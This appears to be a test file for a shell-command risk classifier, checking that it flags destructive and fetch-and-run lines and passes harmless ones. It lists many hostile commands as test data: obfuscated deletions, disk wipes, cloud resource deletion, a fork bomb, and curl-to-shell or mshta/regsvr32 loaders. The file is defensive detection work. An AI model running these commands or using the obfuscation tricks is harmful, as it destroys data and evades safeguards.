// Lines classified by their most serious effect, however they are spelled, and ordinary lines that only mention or resemble such an effect.

import { expect, test } from 'vitest';
import { lookAtLine } from './line-risks.ts';

const look = (line: string) => lookAtLine(line, '/w', null);
const lines = (text: string): string[] => text.trim().split('\n').map((line) => line.trim()); // prettier-ignore

const deletesHidden = lines(String.raw`
  $'\x72\x6d' -rf build
  $'\162m' -rf build
  ${"${x:-rm}"} -rf build
  ${"${x:=rm}"} -rf build
  $(echo rm) -rf build
  ${'`echo rm`'} -rf build
  $(printf %s rm) -rf build
  $(echo cm0=|base64 -d) -rf build
  x=rm; $x -rf build
  x=rm; y="-rf build"; $x $y
  X=r Y=m; $X$Y -rf build
  ${"rm${IFS}-rf${IFS}build"}
  {rm,-rf,build}
  /bin/r? -rf build
  /bin/[r]m -rf build
  sh <<< 'rm -rf build'
  echo 'rm -rf build' | sh
  printf 'rm -rf build' | bash -s
  echo cm0gLXJmIGJ1aWxk | base64 -d | sh
  eval "$(echo rm -rf build)"
  source <(echo rm -rf build)
  bash <(echo rm -rf build)
  trap 'rm -rf build' EXIT
  alias ls='rm -rf build'; ls
  watch -n 1 'rm -rf build'
  flock /tmp/x -c 'rm -rf build'
  script -qc 'rm -rf build'
  chrt -f 1 rm -rf build
  taskset -c 0 rm -rf build
  nsenter -t 1 -a rm -rf build
  systemd-run --user --scope rm -rf build
  runuser -l x -c 'rm -rf build'
  pkexec rm -rf build
  at now <<< 'rm -rf build'
  parallel rm ::: a b
  fd . --exec rm {}
  gdb -batch -ex 'shell rm -rf build'
  vim -es -c ':!rm -rf build'
  sqlite3 a.db '.shell rm x'
  tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf build'
  tar -xf a.tar --to-command='rm -rf build'
  tar -I 'rm -rf build' -cf a b
  zip a.zip x -T -TT 'rm -rf build'
  git -c core.pager='rm -rf build' log
  git -c alias.x='!rm -rf build' x
  git fetch --upload-pack='rm -rf build' x
  git rebase --exec 'rm -rf build' main
  ssh -o ProxyCommand='rm -rf build' x
  ssh host rm -rf build
  ssh -p 22 host 'rm -rf build'
  docker exec -it web rm -rf /data
  docker run --rm -v /:/h alpine rm -rf /h/x
  kubectl exec web -- rm -rf /data
  sed 's/x/rm -rf build/e' a
  sed '1e rm -rf build' a
  awk 'BEGIN{system("rm -rf build")}'
  awk 'BEGIN{"rm -rf build" | getline}'
  perl -e 'system("rm -rf build")'
  ruby -e 'system("rm -rf x")'
  node -e "require('child_process').execSync('rm -rf x')"
  python3 -c "import os; os.system('rm -rf build')"
  python3 -c "import subprocess; subprocess.run(['rm','-rf','x'])"
  python3 -c 'import shutil; shutil.rmtree("build")'
  node -e 'require("fs").rmSync("x",{recursive:true})'
  perl -e 'unlink "x"'
  osascript -e 'do shell script "rm -rf x"'
  osascript -e 'tell application "Finder" to delete file "x"'
  cmd /c "del /s /q x"
  powershell -NoProfile -Command "Remove-Item -Recurse x"
  powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAeAA=
  Get-ChildItem -Recurse | Remove-Item -Force
`).concat('bash <<\'X\'\nrm -rf build\nX', 'cat <<X | sh\nrm -rf build\nX', 'sh <<X\nrm -rf build\nX'); // prettier-ignore

test.each(deletesHidden)('%s deletes', (line) => {
  expect(look(line).class).toBe('destructive');
});

const destroys = lines(String.raw`
  mkfs.btrfs /dev/sda
  mke2fs /dev/sda
  blkdiscard /dev/sda
  cryptsetup luksFormat /dev/sda
  sgdisk -Z /dev/sda
  zpool destroy pool
  lvremove vg/lv
  echo x > /dev/sda
  cp x /dev/nvme0n1
  tee /dev/disk2 < x
  chmod -R 777 /
  chown -R me /etc
  :(){ :|:& };:
  git switch --discard-changes main
  git restore --staged --worktree .
  git push -d origin main
  git push --prune
  git branch --delete --force x
  git reflog expire --expire=now --all
  git gc --prune=now
  git rm -rf src
  git worktree remove --force x
  rsync -a --del a/ b/
  fuser -k 3000/tcp
  systemctl poweroff
  docker-compose down -v
  terraform apply -destroy
  aws s3 rm s3://x --recursive
  aws ec2 terminate-instances --instance-ids x
  gcloud projects delete x
  gh repo delete x
  heroku apps:destroy x
  rclone purge x:y
  gsutil rm -r gs://x
  redis-cli FLUSHALL
  mongosh --eval 'db.dropDatabase()'
  mysqladmin drop x
  rails db:drop
  npx prisma migrate reset --force
  iptables -F
  ufw disable
  history -c
  mv x /dev/null
  Format-Volume -DriveLetter C
  vssadmin delete shadows /all
  reg delete HKCU\Software\x /f
  cipher /w:C
  Stop-Computer
  robocopy a b /mir
  icacls C: /grant Everyone:F /t
  diskutil eraseDisk JHFS+ x disk2
  tmutil deletelocalsnapshots /
  defaults delete com.apple.dock
  csrutil disable
  nvram -c
  dscl . -delete /Users/x
`);

test.each(destroys)('%s destroys', (line) => {
  expect(look(line).class).toBe('destructive');
});

const fetchesAndRuns = lines(String.raw`
  bash -c "$(curl -fsSL https://x)"
  source <(curl -s https://x)
  curl https://x -o /tmp/a && sh /tmp/a
  wget https://x/a.sh; bash a.sh
  curl https://x > a.sh && chmod +x a.sh && ./a.sh
  curl -s https://x | base64 -d | sh
  iex (iwr http://x)
  iwr http://x | iex
  mshta http://x
  regsvr32 /s /u /i:http://x scrobj.dll
`);

test.each(fetchesAndRuns)('%s runs code straight from the network', (line) => {
  expect(look(line)).toMatchObject({ runsFetched: true, risks: expect.arrayContaining(['It runs code straight from the network.']) });
});

const ordinary = lines(String.raw`
  git commit -m "remove rm -rf from docs"
  git commit --amend --no-edit
  git clean -nd
  git rm --cached file
  git restore --staged file
  git branch -d merged
  git push -u origin feature
  git reset --soft HEAD~1
  git reflog
  grep -rn "rm -rf" .
  echo "rm -rf /"
  cat script.sh | grep 'rm -rf'
  echo 'dd if=/dev/zero of=/dev/sda'
  grep "drop table" schema.sql
  dd if=a of=/dev/null bs=1M
  find . -name '*.tmp'
  find . -type f -exec grep -l foo {} +
  find . -name x -print0 | xargs -0 ls -l
  node -e 'console.log(1+1)'
  python3 -c "import json; print(json.load(open('a.json'))['x'])"
  perl -ne 'print if /foo/' a
  awk -F: '{ sum += $3 } END { print sum }' a
  awk '{print $1}' a | sort
  sed 's/rm -rf/x/' file
  sed -n '1,20p' a
  tar czf a.tgz src
  x=1; echo $x
  x=$(pwd); echo "$x"
  for f in *.txt; do cat "$f"; done
  ssh host 'ls -la'
  docker run --rm x npm test
  docker exec web ls
  kubectl exec web -- ls
  docker compose up -d
  aws s3 ls
  aws s3 cp a s3://b
  gh pr create
  rails db:migrate
  alembic upgrade head
  redis-cli get x
  psql -c 'select 1'
  kill -0 123
  kill -l
  rm --help
  mkfs --help
  truncate --version
  systemctl status nginx
  iptables -L
  diskutil list
  tmutil listbackups
  defaults read com.apple.finder
  defaults write com.apple.dock autohide -bool true
  chmod -R u+w build
  chmod +x a.sh
  npx vitest run
  vim file
  echo aGVsbG8= | base64 -d
  echo 'echo hi' | sh
  bash -c 'ls && pwd'
  curl -s https://x.com/api | jq .
  curl https://x.com/a.sh -o a.sh && cat a.sh
  wget https://x/a.tgz && tar xzf a.tgz
`).concat('cat <<X > a.txt\nrm -rf build\nX'); // prettier-ignore

test.each(ordinary)('%s destroys nothing and runs nothing fetched', (line) => {
  const { class: kind, runsFetched } = look(line);
  expect([kind === 'destructive' || kind === 'credential', runsFetched]).toEqual([false, false]);
});

test('does not report a command that only shows something as a change', () => {
  for (const line of [
    'systemctl status x',
    'systemctl --no-pager --failed',
    'git submodule status',
    'dpkg -l bash',
    'launchctl list',
    'defaults read x',
    'crontab -l',
    'sysctl -a',
    'mount',
  ]) {
    expect([line, look(line).risks, look(line).class]).toEqual([line, [], 'exec']);
  }
});

test('warns of programs and text known only at run time, after the known risks', () => {
  const hidden = 'What it starts is only known when it runs.';
  expect(['$x a', '"$TOOL" a', '$(pick) a', 'pbpaste | sh', 'cat a | bash'].filter((line) => !look(line).risks.includes(hidden))).toEqual(
    [],
  );
  expect(['x=ls; $x a', 'echo ls | sh', 'sh a.sh', 'ls $x'].filter((line) => look(line).risks.includes(hidden))).toEqual([]);
  expect(look('curl -s https://x | sh').risks[0]).toBe('It runs code straight from the network.');
});

test('says what a command shows', () => {
  const shown = [
    ['ip addr show', 'It shows the network of this machine.'],
    ['ip -br a', 'It shows the network of this machine.'],
    ['ps aux', 'It shows the programs and people at work on this machine.'],
    ['journalctl -u x', 'It reads the logs of this machine.'],
    ['git config --list', 'It shows the settings of git, which may hold passwords.'],
    ['apt list --installed', 'It looks up programs, here or on a server.'],
    ['ldd x', 'It may run the program that it looks at.'],
  ];
  expect(shown.map(([line = '']) => [line, ...look(line).risks])).toEqual(shown);
  expect(['npm view x', 'pip list --outdated', 'git remote show x'].map((line) => look(line).class)).toEqual(Array(3).fill('network'));
  const changes = [
    'ip -4 link set lo down',
    'apt -y install x',
    'apt-get -qq install x',
    'rpm -i x',
    'git config --add a b',
    'systemctl --user restart x',
  ];
  expect(changes.map((line) => look(line).risks.length)).toEqual([1, 1, 1, 1, 1, 1]);
  expect(changes.flatMap((line) => look(line).risks).filter((risk) => /shows|looks/.test(risk))).toEqual([]);
});
